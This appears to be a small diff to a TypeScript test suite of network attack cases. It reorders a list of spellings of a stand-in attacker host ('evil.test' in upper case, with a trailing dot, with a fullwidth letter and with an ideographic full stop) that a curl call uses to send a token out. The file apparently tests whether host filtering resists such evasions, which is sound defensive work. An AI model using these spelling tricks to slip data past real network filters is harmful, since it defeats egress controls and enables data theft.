@@ -47,7 +47,7 @@ export const nameCases: readonly AttackCase[] = [
     program: ({ token, target }) =>
       curl(
         target,
-        ["EVIL.TEST", "evil.test.", "ｅvil.test", "evil。test"].map((host) => `http://${host}/${token}`),
+        ["ｅvil.test", "evil。test", "evil.test.", "EVIL.TEST"].map((host) => `http://${host}/${token}`),
       ),
   }),
   networkAttack({
